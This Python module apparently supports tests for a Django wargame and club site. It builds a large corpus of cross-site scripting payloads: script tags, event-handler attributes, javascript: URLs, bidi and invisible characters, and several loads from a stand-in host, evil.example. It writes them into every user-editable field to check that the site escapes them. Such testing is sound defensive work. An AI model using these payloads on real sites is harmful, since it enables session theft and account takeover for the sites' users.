"""Texts of people who want other people's browsers to run something, and a site full of them."""

import dataclasses
from collections.abc import Callable, Iterator
from itertools import count, cycle
from typing import Any

from django.apps import apps
from django.db import models

from darkseas.engine.scenario.spec import ScenarioSpec

#: What a text that runs would call: a page where this is defined has been broken into.
MARK = "x5s"
CALL = f"window.{MARK}=1"

_ENDS = ("", '">', "'>", "</script>", "</title>", "</textarea>", "-->", "</style>", "\\", "`${")
_WAYS = (
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
    f"<img src=x onerror={CALL}>",
    f"<img/src/onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text>x",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'>",
    f"<iframe src=javascript:parent.{MARK}=1>",
    f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href=' &#106;avascript:{CALL}'>x</a>",
    f"<form action=javascript:{CALL}><button>x",
    f"<button formaction=javascript:{CALL} autofocus>x",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}>",
    f"<audio src onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<meta http-equiv=refresh content='0;javascript:{CALL}'>",
    f"<base href=javascript:/*{MARK}*/>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<style>@import '//evil.example/{MARK}.css';</style>",
    f"<div style=background:url(//evil.example/{MARK})>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f'" onmouseover="{CALL}" x="',
    f"' onfocus='{CALL}' autofocus='",
    f'" style="animation:x" onanimationstart="{CALL}',
    f"javascript:{CALL}//",
    f"[x](javascript:{CALL})",
    f"![x](x' onerror='{CALL})",
    f"{{{{ {MARK} }}}}{{% debug %}}",
    f'";{CALL};//',
    f"';{CALL};//",
    f"\u2028{CALL}\u2029<!--<script>",
)
CORPUS = tuple(end + way for end in _ENDS for way in _WAYS)
#: Signs that turn the order of what follows, and others that nobody sees.
TURNS = ("\u061c", "\u200e", "\u200f", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A)))
UNSEEN = (*TURNS, "\x01", "\x07", "\x1b", "\x7f", "\x85", "\u200b", "\u2060", "\ufeff", "\ue000")
#: Signs that end a line, which stand in no name.
ENDING = ("\u2028", "\u2029")

#: Parts of a scenario that are for its readers.
READ = {
    "title", "name", "summary", "history", "outcome", "note", "notes", "text", "why", "mission", "commander",
    "force", "date", "place", "source", "author", "licence", "length", "unconfirmed", "time",
}  # fmt: skip
#: Columns that hold what people write, or what is told of it.
WRITTEN = {
    "members.Member": {"username"},
    "members.PersonalToken": {"name"},
    "scenarios_app.Scenario": {"title", "date", "place", "theatre", "historical_battle", "summary"},
    "scenarios_app.ScenarioShip": {"name"},
    "scenarios_app.HexMap": {"title"},
    "scenarios_app.Report": {"text", "decision_note"},
    "scenarios_app.SourceNote": {"fact", "work", "page", "value", "remark", "decision_note"},
    "replays_app.Battle": {"title"},
    "replays_app.TableRecord": {"place"},
    "replays_app.Signature": {"name"},
    "replays_app.ChatLine": {"text"},
    "replays_app.Job": {"error"},
    "replays_app.Finding": {"text"},
    "replays_app.Wish": {"webhook_url"},
    "replays_app.Summary": {"reason"},
    "replays_app.ShipRecord": {"name"},
    "replays_app.StandingAnswer": {"cancelled"},
    "club.Club": {"name", "place", "rules"},
    "club.Player": {"name"},
    "club.Application": {"text"},
    "club.Season": {"name"},
    "club.Meeting": {"title", "place", "text"},
    "club.Result": {"scenario_text", "system", "place", "remarks", "source"},
    "club.ResultSide": {"side"},
    "club.ImportBatch": {"file_name", "source"},
    "club.Tournament": {"title", "text"},
    "club.Entrant": {"name", "group"},
    "club.Round": {"scenario_text"},
    "club.Pairing": {"first_side", "second_side"},
    "club.Candidate": {"text", "first_side", "second_side"},
    "club.SideBid": {"side"},
    "club.PairRule": {"reason"},
    "club.ClubWebhook": {"url"},
    "club.WebhookDelivery": {"answer"},
}
#: What can be written only once.
WRITTEN_ONCE = {
    "scenarios_app.Revision": {"note"},
    "scenarios_app.MapRevision": {"note"},
    "club.AuditLine": {"reason"},
    "club.ResultStep": {"reason"},
}
#: Columns of texts that the site makes itself, by the ends of their names.
MADE = (
    "key", "hash", "digest", "system", "kind", "release", "side", "participant", "token", "dice_scheme",
    "visitor", "head", "dice", "audience", "given_by", "secret", "winner", "scope", "ship", "order",
    "value", "navy", "scopes", "password", "words", "email", "slug",
    "language", "time_zone", "device", "deed", "subject", "nonce", "host", "perspective", "mark",
    "about", "how", "own_title", "length",
)  # fmt: skip

Texts = Callable[[int], str]


def hostile(start: int) -> Texts:
    """Texts that try everything, one after the other: as many at once as fit into a length."""
    ways = cycle((*CORPUS[start:], *CORPUS[:start]))

    def text(most: int) -> str:
        found = ""
        while True:
            way = next(ways)
            if found and len(found) + 1 + len(way) > most:
                return found
            if len(way) <= most:
                found += f" {way}" if found else way

    return text


def harmless() -> Texts:
    """Texts that want nothing."""
    numbers = count(1)
    return lambda most: f"plain words no {next(numbers)}"[:most]


def as_names(text: Texts) -> Texts:
    """The same texts as far as they are taken for names: those that end a line are refused there."""
    return lambda most: text(most).translate({ord(sign): " " for sign in ENDING})


def with_hostile_text(value: Any, text: Texts) -> Any:
    """A scenario, or a part of it, whose every word for readers is another text."""
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        parts = {field.name: getattr(value, field.name) for field in dataclasses.fields(value)}
        return dataclasses.replace(value, **{name: _part(name, part, text) for name, part in parts.items()})
    return tuple(with_hostile_text(part, text) for part in value) if isinstance(value, tuple) else value


def _part(name: str, part: Any, text: Texts) -> Any:
    if name == "losses":  # they name ships by the names that they have no more
        return ()
    if name in READ and isinstance(part, str):
        return text(120) if part else part
    if name in READ and isinstance(part, tuple) and all(isinstance(one, str) for one in part):
        return tuple(text(120) for _ in part)
    return with_hostile_text(part, text)


def dresser(text: Texts) -> Callable[[ScenarioSpec], ScenarioSpec]:
    """What dresses a scenario in such texts."""
    return lambda spec: with_hostile_text(spec, text)


def columns() -> "Iterator[tuple[str, models.Field[Any, Any]]]":
    """Every column of ours that holds text of no fixed choice."""
    for model in apps.get_models():
        if model._meta.app_label in ("members", "scenarios_app", "replays_app", "club"):
            for field in model._meta.concrete_fields:
                if isinstance(field, models.CharField | models.TextField) and not field.choices:
                    yield model._meta.label, field


def write_everywhere(text: Texts) -> None:
    """Put such texts into every row and column that people write."""
    for label, field in columns():
        if field.name in WRITTEN.get(label, ()):
            model = apps.get_model(label)
            for key in list(model._default_manager.values_list("pk", flat=True)):
                most = field.max_length or 2_000
                model._default_manager.filter(pk=key).update(**{field.name: text(most)})
